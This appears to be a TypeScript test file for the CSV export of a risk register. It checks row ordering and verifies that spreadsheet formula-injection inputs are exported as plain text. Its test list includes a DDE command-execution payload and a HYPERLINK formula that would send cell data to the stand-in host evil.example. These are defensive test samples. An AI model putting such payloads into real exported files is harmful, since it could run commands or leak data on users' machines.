import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { anyRegister } from './any-register.ts';
import { toCsv } from './csv.ts';
import { anEntry, newRegister, withAnswer, type Entry } from './register.ts';
import { NOW, someKnowledge } from './samples.ts';
import type { Locate } from './texts.ts';

const knowledge = someKnowledge();
const locate: Locate = (collection, slug) => `https://guide.example/${collection}/${slug}/`;
const fresh = newRegister(knowledge, NOW);
const csvOf = (...entries: Entry[]) => toCsv({ ...fresh, entries }, knowledge, locate);

/** Rows of cells, as a spreadsheet reads them (RFC 4180). */
function rowsOf(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  for (const [, quoted, plain, end] of csv.matchAll(cell)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

test('the greatest risk comes first, one entry a line, under a head that names the columns', () => {
  const csv = csvOf(
    anEntry('gone', { included: false, note: 'Not ours' }),
    ...withAnswer(
      {
        ...fresh,
        entries: [
          anEntry('concept-drift', {
            likelihood: 3,
            impact: 4,
            owner: 'Ada',
            mitigation: 'retraining',
            evidence: 'https://example.org/',
          }),
        ],
      },
      'concept-drift',
      'concept-drift-window',
      'no',
      NOW,
    ).entries,
    anEntry('data-cleaning', { mitigation: 'gone-mitigation' }),
  );

  expect(csv).toBe(
    '\uFEFFrisk,band,challenge,stage,likelihood,likelihood in words,impact,impact in words,status,owner,mitigation,evidence,note,answered no,answered partly,not answered,put aside,address\r\n' +
      '12,High,Concept drift,Model deployment,3,Possible,4,Serious,Open,Ada,Retraining,https://example.org/,,1,0,1,,https://guide.example/challenges/concept-drift/\r\n' +
      ',Not rated,Data cleaning,Data management,,Not rated,,Not rated,Open,,gone-mitigation,,,0,0,2,,https://guide.example/challenges/data-cleaning/\r\n' +
      ',Not rated,gone,,,Not rated,,Not rated,Open,,,,Not ours,0,0,0,yes,\r\n',
  );
});

describe('what a spreadsheet would take for a formula is text', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\0=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '=1+1","=2+2',
    '"=1+1"\r\n=2+2,=3+3',
  ])('%j', (text) => {
    const rows = rowsOf(csvOf(anEntry('concept-drift', { owner: text, note: text, mitigation: text })));

    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(rows[0]?.length ?? 0);
    for (const cell of [rows[1]?.[9], rows[1]?.[10], rows[1]?.[12]]) {
      expect(cell).not.toMatch(/^[\s\0]*[=+\-@＝＋－＠]|^[\t\r\n\0]/);
      expect([text, `'${text}`]).toContain(cell);
    }
  });
});

test('whatever a register says, each entry is one row, and no cell that was typed begins as a formula does', () => {
  fc.assert(
    fc.property(anyRegister(knowledge), (register) => {
      const csv = toCsv(register, knowledge, locate);
      const rows = rowsOf(csv.slice(1));

      expect(csv.startsWith('\uFEFF')).toBe(true);
      expect(rows).toHaveLength(1 + register.entries.length);
      expect(new Set(rows.map((row) => row.length))).toEqual(new Set([18]));
      expect(rows.flat().filter((cell) => /^[\s\0]*[=+\-@]/.test(cell))).toEqual([]);
    }),
  );
});
